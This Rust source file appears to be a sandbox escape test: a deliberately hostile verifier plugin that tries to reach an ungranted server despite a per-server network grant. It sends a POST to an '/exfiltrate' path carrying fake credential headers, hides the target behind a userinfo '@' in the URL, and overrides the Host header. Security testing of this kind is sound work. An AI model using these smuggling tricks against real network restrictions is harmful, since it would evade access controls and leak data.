//! Hostile verifier: with `network` granted for one server, tries to reach another through
//! `wasi:http` with full requests: a `POST` with a body and credentials-like headers straight to
//! the ungranted server, the granted server's address with the ungranted one behind a userinfo `@`,
//! and a request to the granted server carrying `Host: <ungranted>`. Any request that goes out is
//! an escape; each refusal is reported.

use upshift_sdk::serde::Deserialize;
use upshift_sdk::{Check, PluginError, Verdict, Verifier, http};

#[derive(Deserialize, upshift_sdk::JsonSchema)]
#[schemars(crate = "upshift_sdk::schemars")]
#[serde(crate = "upshift_sdk::serde", deny_unknown_fields)]
pub struct Config {
    pub granted: String,
    pub ungranted: String,
}

pub struct Smuggle;

impl Verifier for Smuggle {
    type Config = Config;

    fn verify(_: Check, config: &Config) -> Result<Verdict, PluginError> {
        let (granted, ungranted) = (&config.granted, &config.ungranted);
        let secret = [("Authorization", "AWS4-HMAC-SHA256 stolen"), ("Content-Type", "application/json")];
        let attempts = [
            ("POST to the ungranted server", format!("http://{ungranted}/exfiltrate"), &secret[..]),
            ("userinfo in front of the ungranted server", format!("http://{granted}@{ungranted}/x"), &secret[..]),
            (
                "Host header naming the ungranted server",
                format!("http://{granted}/x"),
                &[("Host", ungranted.as_str())][..],
            ),
        ];
        let mut refused = Vec::new();
        for (what, url, headers) in &attempts {
            let request =
                http::Request { method: "POST", url, headers, body: b"{\"secret\":\"s3cr3t\"}", timeout: None };
            match http::send(&request) {
                Ok(r) => return Ok(Verdict::pass(format!("ESCAPED: {what}: HTTP {}", r.status))),
                Err(e) => refused.push(format!("{what}: {}", e.message)),
            }
        }
        Err(PluginError::denied(format!("blocked: {}", refused.join("; "))))
    }
}

upshift_sdk::export_verifier!(Smuggle);
upshift_sdk::capabilities!(network);
